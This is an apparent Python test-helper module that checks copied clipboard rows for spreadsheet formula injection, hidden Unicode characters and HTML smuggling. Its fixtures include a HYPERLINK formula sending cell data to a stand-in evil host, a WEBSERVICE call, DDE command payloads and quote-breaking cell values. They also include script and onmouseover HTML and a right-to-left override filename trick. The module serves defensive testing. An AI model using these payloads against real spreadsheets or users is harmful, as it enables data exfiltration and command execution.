"""Texts that try to become a formula, a link or another cell where they are pasted, and what is seen of them there."""

import csv
import io
import unicodedata
from collections.abc import Iterator, Sequence
from html.parser import HTMLParser

from fastpix_desktop.domain.outgoing_text import CopiedText

SIGNS = "=+-@|＝＋－＠｜﹦﹢﹣﹫"
BEFORE = {
    "nothing": "",
    "space": " ",
    "no-break space": "\u00a0",
    "ideographic space": "\u3000",
    "zero-width space": "\u200b",
    "zero-width joiner": "\u200d",
    "byte order mark": "\ufeff",
    "soft hyphen": "\u00ad",
    "mark of direction": "\u200f",
    "override": "\u202e",
    "isolate": "\u2068",
    "variation selector": "\ufe0f",
    "Hangul filler": "\u3164",
    "Braille blank": "\u2800",
    "tab": "\t",
    "carriage return": "\r",
    "line feed": "\n",
    "CR and LF": "\r\n",
    "line separator": "\u2028",
    "null": "\0",
    "escape": "\x1b",
    "delete": "\x7f",
    "next line": "\x85",
    "apostrophe": "'",
    "quote": '"',
    "curly quotes": "“’",
    "guillemet": "«",
    "several": " \t\u200b\"'\ufeff",
}
FORMULAS = {
    **{f"{sign} after {name}": f"{before}{sign}1+1" for sign in SIGNS for name, before in BEFORE.items()},
    "a link": '=HYPERLINK("https://evil.example/?"&A1;"Open")',
    "another program": "=cmd|'/C calc'!A0",
    "another program, with a sign": "@SUM(1+1)*cmd|'/C calc'!A0",
    "another program, without a sign": "|'/C calc'!A0",
    "a web service": '=WEBSERVICE("https://evil.example/")',
    "a semicolon": "x;=1+41;y",
    "a semicolon and invisible characters": "x; \u200b=1+41;y",
    "a semicolon and a quote": 'x;"=1+41";y',
    "a quote that ends the cell": 'x",=1+41,"y',
    "a quote that ends the cell, with a semicolon": 'x";=1+41;"y',
    "a tab": "x\t=1+41\ty",
    "a line break": 'x"\r\n"=1+41","y',
    "a line": "x\n=1+41",
    "a cell of HTML": "</td><td>=1+41",
    "a row of HTML": "</td></tr><tr><td>=1+41</td></tr></table><a href='https://evil.example/'>",
    "characters of HTML as numbers": "&#61;1+41",
}
OTHERS = {
    "an address": "https://evil.example/",
    "an address without a scheme": "www.evil.example",
    "a mail address": "mailto:someone@evil.example",
    "a link of HTML": "<a href='https://evil.example/'>Session expired</a>",
    "a picture of HTML": "<img src='file:///etc/hostname'>",
    "a script of HTML": "<script>alert(1)</script>",
    "a quote of HTML": '" onmouseover="alert(1)',
    "a number with zeros": "007",
    "a number with an exponent": "1e3",
    "a long number": "0123456789012345678901",
    "a negative number": "-5",
    "a negative fraction": "-2.5",
    "no frame rate": "-1 fps",
    "a length": "41:18",
    "a date": "2026-11-26",
    "a truth": "TRUE",
    "a percentage": "50%",
    "spaces": "  two  spaces  ",
    "commas": "one, two; three",
    "quotes": 'He said "no", twice',
    "an apostrophe": "’Tis the season",
    "an override": "invoice\u202egpj.exe",
    "an isolate that does not end": "\u2067abc",
    "emoji": "👩‍👩‍👧 ❤️ 🏳️‍🌈",
    "Persian": "می‌خواهم",
    "Hebrew": "שלום\u200e C++",
    "Japanese": "葛󠄀飾区　夜のニュース",
    "half of a character": "\ud83d",
    "the name of a format": "ID",
    "nothing to see": "\u200b\u2060",
    "an ordinary title": "Harbour Watch – S03 E02",
}
CELLS = {**FORMULAS, **OTHERS}

QUOTES = "\"'`´"
UNSEEN = "\u2800\u3164\u115f\u1160\uffa0\u061c\u200e\u200f\ufe0f\u180b"
TURNING = {"LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI"}


def starts_formula(text: str) -> bool:
    """Whether the first character of a cell that can be seen begins a formula. After an apostrophe, nothing does."""
    if text.startswith("'"):
        return False
    for character in text:
        kind = unicodedata.category(character)
        is_unseen = kind in {"Zs", "Zl", "Zp", "Cc", "Cs"} or character in UNSEEN
        is_unseen = is_unseen or (kind == "Cf" and unicodedata.bidirectional(character) in {"BN", *TURNING})
        if is_unseen or kind in {"Pi", "Pf"} or character in QUOTES:
            continue
        decomposed = unicodedata.decomposition(character).split()
        plain = chr(int(decomposed[1], 16)) if decomposed[:1] in (["<wide>"], ["<small>"]) else character
        return plain in "=+-@|"
    return False


def hidden(text: str) -> str:
    """The characters of a text that begin a line, are not shown, or turn the text behind them."""
    return "".join(
        character
        for character in text
        if unicodedata.category(character) in {"Cc", "Cs", "Zl", "Zp"}
        or unicodedata.bidirectional(character) in TURNING
        or character in "\u00ad\u200b\u2060\u3164\ufeff"
    )


class Table(HTMLParser):
    """The rows of an HTML table, and every tag and attribute in it."""

    def __init__(self, source: str) -> None:
        super().__init__()
        self.rows: list[list[str]] = []
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str | None]] = set()
        self.feed(source)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Part of HTMLParser: an element begins."""
        self.tags.add(tag)
        self.attributes |= set(attrs)
        if tag == "tr":
            self.rows.append([])
        if tag in {"td", "th"}:
            self.rows[-1].append("")

    def handle_data(self, data: str) -> None:
        """Part of HTMLParser: text."""
        self.rows[-1][-1] += data


def findings(copied: CopiedText, rows: Sequence[Sequence[str]]) -> Iterator[str]:
    """What is wrong with copied rows, for a reader with any separator. `rows` are the texts that are meant."""
    meant = [list(row) for row in rows]
    read = list(csv.reader(io.StringIO(copied.plain, newline="")))
    table = Table(copied.rich)
    if read != meant:
        yield f"the CSV has other cells: {[row for row in read if row not in meant]}"
    if table.rows != meant:
        yield f"the HTML has other cells: {[row for row in table.rows if row not in meant]}"
    # Programs that split at another separator take the rest of a cell after its closing quote as it is.
    splits = [list(csv.reader(io.StringIO(copied.plain, newline=""), delimiter=sign)) for sign in ",;\t"]
    for cell in [cell for every in (*splits, table.rows) for row in every for cell in row]:
        if starts_formula(cell) and not _is_number(cell):
            yield f"a formula: {cell!r}"
    if found := hidden(copied.plain.replace("\r\n", "") + copied.rich):
        yield f"hidden characters: {found!r}"
    if not all(line.startswith('"') and line.endswith('"') for line in copied.plain.splitlines()):
        yield "a cell without quotes"
    if not table.tags <= {"table", "tr", "th", "td"}:
        yield f"other elements: {table.tags}"
    if {name for name, _ in table.attributes} != {"sdnum", "style"}:
        yield f"other attributes: {table.attributes}"


def _is_number(text: str) -> bool:
    try:
        float(text.replace(",", "."))
    except ValueError:
        return False
    return text.startswith("-")
